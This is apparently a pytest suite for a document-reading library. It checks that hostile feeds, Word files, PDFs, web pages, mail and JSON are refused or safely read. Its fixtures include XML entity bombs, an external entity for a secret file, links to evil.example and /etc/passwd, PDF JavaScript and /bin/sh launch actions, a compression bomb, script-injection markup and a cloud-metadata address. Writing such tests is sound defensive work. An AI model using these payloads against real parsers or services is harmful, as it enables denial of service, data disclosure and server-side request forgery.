"""Documents that are made to hurt their readers: each costs little, says one line or what is to be read in it."""

import io
import json
import zipfile
import zlib
from typing import Any

import pytest
from hostile import SECRET, Read, lines, refused, texts, zipped
from hypothesis import HealthCheck, given
from hypothesis import settings as fuzzing
from hypothesis import strategies as st

from ascribe.errors import InputError
from ascribe.model import Capture, Report
from ascribe.read import report_of

HEAD = b"From: a@b.example\nDate: Tue, 04 Mar 2031 08:00:00 +0000\n"
WORDS = b"<p>Two guards were killed.</p>"
NEWS = "Two guards were killed."


def entities(text: str) -> str:
    """Declarations of entities that grow by ten at each step: a billion laughs."""
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY e0 "{text}">{steps}<!ENTITY file SYSTEM "secret.txt">]>'


@pytest.mark.parametrize("where", ["&e9;", "&file;", "plain"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_in_feeds(read: Read, where: str, encoding: str) -> None:
    feed = f"<?xml version='1.0' encoding='{encoding}'?>{entities('lol')}<rss><channel><item><title>{where}</title>"
    line = refused(read("a.rss", f"{feed}</item></channel></rss>".encode(encoding)))
    assert "declares entities of its own, as attacks do" in line


def docx(document: bytes, relations: bytes = b"") -> bytes:
    """A Word document of this body and these relationships."""
    package = "http://schemas.openxmlformats.org/package/2006"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = (
        f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType='
        f'"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
        f'ContentType="{kind}"/></Types>'
    )
    root = f'<Relationship Id="r1" Type="{office}/officeDocument" Target="word/document.xml"/>'
    related = '<Relationships xmlns="{}/relationships">{}</Relationships>'
    return zipped(
        [
            ("[Content_Types].xml", types.encode()),
            ("_rels/.rels", related.format(package, root).encode()),
            ("word/document.xml", document),
            ("word/_rels/document.xml.rels", related.format(package, relations.decode()).encode()),
        ],
        zipfile.ZIP_DEFLATED,
    )


def body(inner: str, prolog: str = "") -> str:
    """The XML of a Word document around paragraphs."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'{prolog}<w:document xmlns:w="{space}"><w:body>{inner}</w:body></w:document>'


def test_entities_in_word_documents(read: Read) -> None:
    for name in ("&e9;", "&file;"):
        inner = f"<w:p><w:r><w:t>{name}Two guards</w:t></w:r></w:p>"
        plain = refused(read("a.docx", docx(body(inner, entities("lol")).encode())))
        assert "declares entities, which no Word document does" in plain
        wide = read("a.docx", docx(body(inner, entities("lol")).encode("utf-16")))
        assert all(len(text) < 1000 and SECRET not in text for text in texts(wide))


@pytest.mark.parametrize(
    "target", ["https://evil.example/", "file:///etc/passwd", "\\\\evil.example\\share", "../../x"]
)
def test_nothing_is_fetched_for_a_word_document(read: Read, target: str) -> None:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    related = "".join(
        f'<Relationship Id="x{n}" Type="{office}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, kind in enumerate(
            ("attachedTemplate", "image", "footnotes", "hyperlink", "frame", "oleObject")
        )
    )
    inner = "<w:p><w:r><w:t>Two guards were killed.</w:t></w:r></w:p>"
    assert texts(read("a.docx", docx(body(inner).encode(), related.encode()))) == [NEWS]


def test_elements_in_elements_of_a_word_document(read: Read) -> None:
    for tag in ("w:sdt", "w:p", "w:tbl"):
        found = read("a.docx", docx(body(f"<{tag}>" * 50_000 + f"</{tag}>" * 50_000).encode()))
        assert len(lines(found)) == 1


def pdf(*objects: str, trailer: str = "") -> bytes:
    """A PDF of numbered objects, without the table of where they stand."""
    numbered = "".join(f"{number} 0 obj\n{body}\nendobj\n" for number, body in enumerate(objects, 1))
    return f"%PDF-1.7\n{numbered}trailer\n<< /Root 1 0 R /Size 20 {trailer} >>\n%%EOF\n".encode("latin-1")


FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> >>"
SHOWN = "<< /Length 60 >>\nstream\nBT /F1 12 Tf 72 700 Td (Two guards were killed.) Tj ET\nendstream"


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (pdf("<< /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 9 >>"), None),
        (pdf("<< /Pages 2 0 R >>", "<< /Kids [3 0 R] /Count 999999999 >>", "<< /Kids [2 0 R] /Parent 2 0 R >>"), None),
        (pdf("<< /Pages 2 0 R >>", "<< /Kids [3 0 R] /Count 1 >>", PAGE, FONT, SHOWN), NEWS),
        (
            pdf(
                "<< /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"
                " /AA << /WC << /S /Launch /F (/bin/sh) >> >> >>",
                "<< /Kids [3 0 R] /Count 1 >>", PAGE, FONT, SHOWN,
            ),
            NEWS,
        ),
        (pdf("<< /Pages 2 0 R >>", "<< /Kids [3 0 R] /Count 1 >>", trailer="/Encrypt << /Filter /Standard >>"), None),
        (pdf("1 0 R", "2 0 R"), None),
        (pdf("[" * 100_000), None),
    ],
    ids=["pages in pages", "pages in a circle", "good", "scripts", "encrypted", "nothing but references", "deep"],
)  # fmt: skip
def test_pdfs(read: Read, data: bytes, text: str | None) -> None:
    found = read("a.pdf", data)
    assert texts(found) == ([text] if text else [])
    assert len(found) == 1


def test_a_pdf_that_is_a_bomb(read: Read) -> None:
    packed = zlib.compress(zlib.compress(bytes(300_000_000), 9), 9).decode("latin-1")
    stream = f"<< /Length {len(packed)} /Filter [/FlateDecode /FlateDecode] >>\nstream\n{packed}\nendstream"
    refused(read("a.pdf", pdf("<< /Pages 2 0 R >>", "<< /Kids [3 0 R] /Count 1 >>", PAGE, FONT, stream)))


@pytest.mark.parametrize(
    "markup",
    [
        b"<script>document.write('run')</script><noscript>run</noscript>",
        b"<svg onload='run()'><script>run()</script></svg>",
        b"<img src=x onerror='run()'><iframe src='javascript:run()'></iframe>",
        b"<iframe srcdoc='<script>run()</script>'></iframe><object data='data:text/html,run'></object>",
        b"<meta http-equiv=refresh content='0; url=http://169.254.169.254/run'>",
        b"<link rel=stylesheet href=http://127.0.0.1/run.css><base href=file:///run/>",
        b"<style>@import 'http://127.0.0.1/run'; p { content: 'run' }</style><template>run</template>",
        b"<img src='data:image/svg+xml;base64," + b"QUJD" * 500_000 + b"'>",
        b"<p style='" + b"display:block;" * 100_000 + b"'></p>",
        b"<style>" + b"a{b:c}" * 500_000 + b"*" * 500_000 + b"</style>",
        b"<p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b"></p>",
        b"<div>" * 200_000,
        b"<b><p>" * 30_000,
        b"<table><tr><td>" * 20_000,
        b"<!--" + b"-" * 500_000 + b"-->",
        b"<a " * 300_000 + b">",
        b"<script type='application/ld+json'>" + b"[" * 200_000 + b"</script>",
        b"<script type='application/ld+json'>" + b'{"@graph":[' * 50_000 + b"</script>",
    ],
    ids=range(18),
)
def test_pages_that_are_laden(read: Read, markup: bytes) -> None:
    """Nothing of it is run, fetched or shown, and the words of the page are read."""
    for page in (
        b"<html><body>" + WORDS + markup + b"</body>",
        b"<html><body>" + markup + WORDS + b"</body>",
    ):
        for text in texts(read("a.html", page)):
            assert "run" not in text
    assert any(NEWS in text for text in texts(read("a.html", b"<html><body>" + WORDS + markup + b"</body>")))


@pytest.mark.parametrize("count", [30_000, 600_000])
def test_pages_without_end(read: Read, count: int) -> None:
    assert "more than" in refused(read("a.html", b"<html><body>" + b"<p>x</p>" * count))


def test_a_mail_with_a_subject_of_a_megabyte(read: Read) -> None:
    for subject in (
        b"words " * 170_000,
        b"=?utf-8?q?word?= " * 60_000,
        b"=?a?q?" * 170_000,
        b"x\n " * 300_000,
    ):
        found = read("a.eml", HEAD + b"Subject: " + subject + b"\n\nTwo guards were killed.\n")
        assert len(found) == 1


@pytest.mark.parametrize(
    "header",
    [
        b"Content-Type: text/plain" + b";a=b" * 200_000,
        b"Content-Type: multipart/mixed" + b';boundary*0*="b' * 50_000,
        b"Content-Disposition: attachment; filename=" + b'\\"' * 300_000,
        b"Content-Type: text/plain;\n" + b"\ta=b;\n" * 100_000,
    ],
    ids=["parameters", "parts of parameters", "quotes", "lines"],
)
def test_a_mail_with_a_header_without_end(read: Read, header: bytes) -> None:
    assert "which no mail program writes" in refused(read("a.eml", HEAD + header + b"\n\nx\n"))


def test_a_mail_of_parts_in_parts(read: Read) -> None:
    for depth in (30, 3000):
        parts = b"".join(
            b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(depth)
        )
        refused(read("a.eml", HEAD + parts + b"\nTwo guards.\n"))
    refused(read("a.eml", HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 20_000))
    assert len(lines(read("a.eml", HEAD + b"Content-Type: message/rfc822\n\n" * 20 + b"\nx\n"))) <= 1
    refused(read("a.eml", HEAD + b"Content-Type: message/rfc822\n\n" * 3000))


@pytest.mark.parametrize(
    "boundary", [b"", b'""', b"(.*)+$", b'"' + b"x" * 15_000 + b'"', b"\xff\x00", b'"a\nb"']
)
def test_boundaries_of_mail(read: Read, boundary: bytes) -> None:
    plain = boundary.strip(b'"')
    data = (
        b"Content-Type: multipart/mixed; boundary="
        + boundary
        + b"\n\n--"
        + plain
        + b"\n\nTwo guards.\n--"
        + plain
    )
    assert len(texts(read("a.eml", HEAD + b"Subject: News\n" + data + b"--\n"))) == 1


PIECES = (
    *(
        b"--b",
        b"--b--",
        b"\n",
        b"\xff",
        b"base64",
        b"uuencode",
        b"text/html",
        b"message/rfc822",
        b"Subject: ",
    ),
    *(
        b"Content-Type: ",
        b"multipart/mixed; boundary=b",
        b"text/plain; charset=",
        b"=?x?b?",
        b"begin 644 a\n",
    ),
    *(b"Content-Transfer-Encoding: ", b"From a 2031\n"),
)


@given(st.lists(st.sampled_from(PIECES), max_size=40))
@fuzzing(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_pieces_of_mail(read: Read, pieces: list[bytes]) -> None:
    assert read("a.eml", HEAD + b"".join(pieces))


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.json", b"[" * 1_000_000, "too deep"),
        ("a.json", b'{"a":' * 300_000, "ends in the middle of a value"),
        ("a.json", b'{"text": "' + b"x" * 40_000_000, "more than"),
        ("a.json", b'[{"text": "a\\ud800b"}]', "holds half of a character"),
        ("a.json", b"[1, 2]", "is no object with columns"),
        ("a.json", b"{}", "no column is plainly the text"),
        ("a.json", b"[]", "is empty"),
        ("a.json", b"nul", "is no JSON"),
        ("a.jsonl", b'{"text":' * 100_000, "is not JSON"),
        ("a.jsonl", b'{"text": "a\\ud800b"}', "holds half of a character"),
        ("a.csv", b"text\n" + b"x" * 40_000_000, "has a line of more than"),
        ("a.csv", b'text,title\n"' + b"x" * 1_000_000, "check its quotation marks"),
        ("a.csv", b"\x00" * 3000, "is empty"),
        ("a.csv", b"text", "is empty"),
    ],
    ids=range(14),
)
def test_tables_that_are_none(read: Read, name: str, data: bytes, words: str) -> None:
    found = lines(read(name, data))
    assert words in found[0]


def test_json_that_readers_disagree_on(read: Read) -> None:
    huge = b"9" * 100_000
    for name, data in (
        ("a.json", b'[{"text": "News", "n": %s, "m": 1e999}]'),
        ("a.jsonl", b'{"text": "News", "n": %s}'),
    ):
        assert texts(read(name, data % huge)) == ["News"]
    assert texts(read("a.json", b'[{"text": "first", "text": "last"}]')) == ["last"]
    assert texts(read("a.csv", b"text,n\nTwo\x00guards,1\n")) == ["Two\ufffdguards"]
    assert texts(read("a.json", b'[{"text": "a\\u0000b"}]')) == []


def message(**more: Any) -> dict[str, Any]:
    return {"id": 1, "type": "message", "text": "News", "date": "2031-03-04T10:00:00", **more}


def channel(*messages: dict[str, Any], **more: Any) -> bytes:
    return json.dumps(
        {"name": "Brigade", "type": "public_channel", "id": 7, "messages": messages} | more
    ).encode()


@pytest.mark.parametrize("unix", ["9" * 5000, "99999999999999", "-1", "x", "", None, 1e300, [1], "²", "0"])
@pytest.mark.parametrize(
    "date", ["99999-99-99T99:99:99", "0000-00-00", "2031-02-31T25:61:61", "", None, 7, "x" * 100_000]
)
def test_dates_of_telegram_out_of_range(read: Read, unix: Any, date: Any) -> None:
    [report] = read(
        "result.json", channel(message(date=date, date_unixtime=unix, edited=date, edited_unixtime=unix))
    )
    assert isinstance(report, Report)
    assert report.text == "News"
    assert report.published.moment is None or "2031" not in report.published.moment.value


def test_messages_too_deep_are_one_line_each(read: Read) -> None:
    text: Any = "deep"
    for _ in range(400):
        text = [{"type": "bold", "text": text}]
    found = read("result.json", channel(message(), message(id=2, text=text), message(id=3)))
    assert texts(found) == ["News", "News"]
    assert len(lines(found)) == 1


def test_names_of_channels_cannot_steer_a_terminal(read: Read) -> None:
    found = read(
        "result.json", channel(message(), message(id=2, text=["\ud800"]), name="\x1b[2J\x00\n", id=None)
    )
    [report] = [item for item in found if isinstance(item, Report)]
    assert report.source.isprintable()
    assert report.address.isprintable()
    assert "\0" not in str(report.publisher)


def test_a_web_archive_with_json_that_is_deep(read: Read) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("datapackage.json", b"[" * 1_000_000)
        archive.writestr("pages/pages.jsonl", b"{" * 1_000_000)
        archive.writestr("archive/data.warc", b"WARC/1.0\r\nContent-Length: 99999999999999999999\r\n\r\n")
    assert len(lines(read("a.wacz", packed.getvalue()))) >= 1


def test_a_capture_of_any_format_and_bytes_is_a_report_or_a_line() -> None:
    """What a ledger holds may be damaged, too."""
    from ascribe.read.formats import _PAGES

    for kind in _PAGES:
        for data in (b"", b"\x00", b"{}", b"[" * 5000, b"<", b"%PDF", b"PK\x03\x04", b"\xff" * 100):
            try:
                report_of(Capture("a", data, kind, "a"))
            except InputError as error:
                assert str(error).startswith("a: ")


@pytest.mark.parametrize(
    "words",
    [
        *("4 March 2031 ", "4 March 2031 today ", "first anniversary of ", "referendum tomorrow, Monday "),
        *(
            "told on Tuesday ",
            "3/4/31 ",
            "PORT EMMER (AP) - ",
            "A. B, ",
            "“said” ",
            "(",
            "https://a.example/ ",
        ),
        *("© 2031 ", "=?utf-8?q?a?= ", "Aa-", "a’", "A.b.", "PORT/", "ق،"),
    ],
)
def test_words_that_come_again_and_again(read: Read, words: str) -> None:
    """What is looked for beside each of them is looked for near it."""
    line = words * (150_000 // len(words))
    assert len(read("a.txt", f"Guards killed\n\n{line}\n\n{NEWS}\n".encode())) == 1
    assert len(read("a.csv", f'text,n\n"{line}",1\n'.encode())) == 1
